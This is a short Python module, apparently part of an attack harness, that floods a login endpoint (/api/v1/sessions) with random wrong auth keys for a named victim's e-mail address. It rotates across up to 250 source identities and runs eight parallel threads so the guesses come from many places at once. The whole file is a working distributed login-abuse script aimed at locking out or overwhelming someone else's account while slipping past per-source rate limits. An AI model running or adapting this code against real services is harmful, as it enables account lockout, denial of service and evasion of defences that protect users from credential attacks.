"""Wrong passwords for somebody else's e-mail address, from many places."""
import json
import os

from tenants import b64
from wire import answer, post


def run(attack, spread=250):
    """As fast as possible, a new place for every few guesses."""
    def one(index):
        with attack.tls(index % spread) as made:
            for _ in range(8):
                if attack.left() <= 0:
                    return
                body = json.dumps({"email": attack.victim, "authKey": b64(os.urandom(32))}).encode()
                made.sendall(post("/api/v1/sessions", len(body)) + body)
                made.settimeout(max(0.2, min(10, attack.left())))
                status = answer(made)
                attack.count(f"answered {status or 'nothing'}")
                if not status:
                    return

    attack.repeat(one, threads=8)
